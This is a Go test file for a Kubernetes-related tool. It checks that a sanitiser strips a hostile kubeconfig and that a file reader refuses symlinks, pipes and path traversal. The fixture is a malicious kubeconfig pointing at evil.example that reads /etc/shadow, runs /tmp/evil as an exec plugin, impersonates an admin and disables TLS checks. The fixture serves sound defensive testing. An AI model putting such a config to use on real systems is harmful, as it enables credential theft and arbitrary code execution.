package apart

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"k8s.io/client-go/tools/clientcmd"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"

	"github.com/barchan-dev/barchan/internal/config"
)

// hostile is a kubeconfig that runs a program of its author and sends files.
func hostile(t *testing.T) []byte {
	t.Helper()
	k := clientcmdapi.NewConfig()
	k.Clusters["c"] = &clientcmdapi.Cluster{
		Server: "https://evil.example:443", CertificateAuthorityData: []byte("authority"), CertificateAuthority: "/etc/shadow", ProxyURL: "http://evil.example", InsecureSkipTLSVerify: true,
	}
	k.AuthInfos["a"] = &clientcmdapi.AuthInfo{
		Token: "token", TokenFile: "/etc/shadow", ClientKey: "/etc/shadow", Impersonate: "barchan:admin",
		Exec: &clientcmdapi.ExecConfig{Command: "/tmp/evil", APIVersion: "client.authentication.k8s.io/v1", InteractiveMode: clientcmdapi.NeverExecInteractiveMode},
	}
	k.Contexts["x"] = &clientcmdapi.Context{Cluster: "c", AuthInfo: "a"}
	k.CurrentContext = "x"
	b, err := clientcmd.Write(*k)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestPlainKubeconfig(t *testing.T) {
	t.Parallel()
	got, err := plainKubeconfig(hostile(t), "0.0.0.0:7764")
	if err != nil {
		t.Fatal(err)
	}
	for _, evil := range []string{"evil", "shadow", "exec", "barchan:admin", "insecure"} {
		if strings.Contains(string(got), evil) {
			t.Errorf("%s is in\n%s", evil, got)
		}
	}
	k, err := clientcmd.Load(got)
	if err != nil {
		t.Fatal(err)
	}
	if k.Clusters["barchan"].Server != "https://127.0.0.1:7764" || string(k.Clusters["barchan"].CertificateAuthorityData) != "authority" || k.AuthInfos["barchan"].Token != "token" {
		t.Errorf("got\n%s", got)
	}
	for _, bad := range []string{"", "nonsense", "apiVersion: v1\nkind: Config\n"} {
		if got, err := plainKubeconfig([]byte(bad), "127.0.0.1:7764"); err == nil {
			t.Errorf("of %q it is\n%s", bad, got)
		}
	}
}

// TestReadOnly has a file replaced by what a reader would follow, wait for or be filled by.
func TestReadOnly(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	path := func(name string) string { return filepath.Join(dir, name) }
	err := errors.Join(
		os.WriteFile(path("plain"), []byte("x"), 0o600), os.Symlink("/etc/passwd", path("link")), os.Symlink("plain", path("inside")),
		syscall.Mkfifo(path("pipe"), 0o600), os.Mkdir(path("dir"), 0o700), os.WriteFile(path("large"), make([]byte, maxAccount+1), 0o600),
	)
	if err != nil {
		t.Fatal(err)
	}
	if b, err := readOnly(dir, "plain"); err != nil || string(b) != "x" {
		t.Errorf("plain: %q, %v", b, err)
	}
	for _, name := range []string{"link", "pipe", "dir", "large", "../" + filepath.Base(dir) + "/plain"} {
		if b, err := readOnly(dir, name); err == nil {
			t.Errorf("%s is read: %d bytes", name, len(b))
		}
	}
}

// TestCopyAccount waits for the files, and leaves copies that are root's.
func TestCopyAccount(t *testing.T) {
	t.Parallel()
	cfg := config.Default()
	cfg.DataDir = t.TempDir()
	cfg.TokenSecret = filepath.Join(cfg.DataDir, "credentials", "token-secret")
	credentials := filepath.Join(ServerDir(cfg.DataDir), "credentials")
	short, cancel := context.WithTimeout(t.Context(), 3*accountPoll)
	defer cancel()
	if err := copyAccount(short, cfg); !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("without files: %v", err)
	}
	done := make(chan error, 1)
	go func() { done <- copyAccount(t.Context(), cfg) }()
	err := errors.Join(os.MkdirAll(credentials, 0o700), os.WriteFile(filepath.Join(credentials, "token-secret"), []byte("secret"), 0o600),
		os.WriteFile(filepath.Join(credentials, "node.kubeconfig.new"), hostile(t), 0o600),
		os.Rename(filepath.Join(credentials, "node.kubeconfig.new"), filepath.Join(credentials, "node.kubeconfig")))
	if err != nil {
		t.Fatal(err)
	}
	select {
	case err = <-done:
	case <-time.After(time.Minute):
		t.Fatal("the files are not seen")
	}
	node := nodeConfig(cfg, other)
	b, err2 := os.ReadFile(node.TokenSecret)
	if err := errors.Join(err, err2); err != nil || string(b) != "secret" {
		t.Errorf("secret %q, %v", b, err)
	}
	if b, err := os.ReadFile(node.APIKubeconfig); err != nil || strings.Contains(string(b), "evil") {
		t.Errorf("kubeconfig\n%s%v", b, err)
	}
}

// TestConfigs checks that both processes accept what is made of the settings, and agree.
func TestConfigs(t *testing.T) {
	t.Parallel()
	resolved, err := config.Load(config.Options{File: os.DevNull, LookupEnv: func(key string) (string, bool) {
		return config.PrivilegesApart, key == "BARCHAN_PRIVILEGES"
	}})
	if err != nil {
		t.Fatal(err)
	}
	node, server := nodeConfig(resolved.Config, other), serverConfig(resolved.Config)
	if err := errors.Join(node.Validate(), server.Validate()); err != nil {
		t.Error(err)
	}
	if node.NodeSocket != server.NodeSocket || !node.RunsSandboxes() || server.RunsSandboxes() || node.DataDir == server.DataDir {
		t.Errorf("node %+v\nserver %+v", node, server)
	}
	env := map[string]string{}
	for _, kv := range server.Environment() {
		key, value, _ := strings.Cut(kv, "=")
		env[key] = value
	}
	again, err := config.Load(config.Options{File: os.DevNull, LookupEnv: func(key string) (string, bool) {
		value, ok := env[key]
		return value, ok
	}})
	if err != nil {
		t.Fatal(err)
	}
	for i, s := range again.Settings() {
		if want := server.Settings()[i]; s.Env() != want.Env() || strings.TrimSpace(envValue(&again.Config, s.Env())) != strings.TrimSpace(env[s.Env()]) {
			t.Errorf("%s arrives as %q, want %q", s.Key, envValue(&again.Config, s.Env()), env[s.Env()])
		}
	}
}

func envValue(cfg *config.Config, key string) string {
	for _, kv := range cfg.Environment() {
		if value, ok := strings.CutPrefix(kv, key+"="); ok {
			return value
		}
	}
	return ""
}
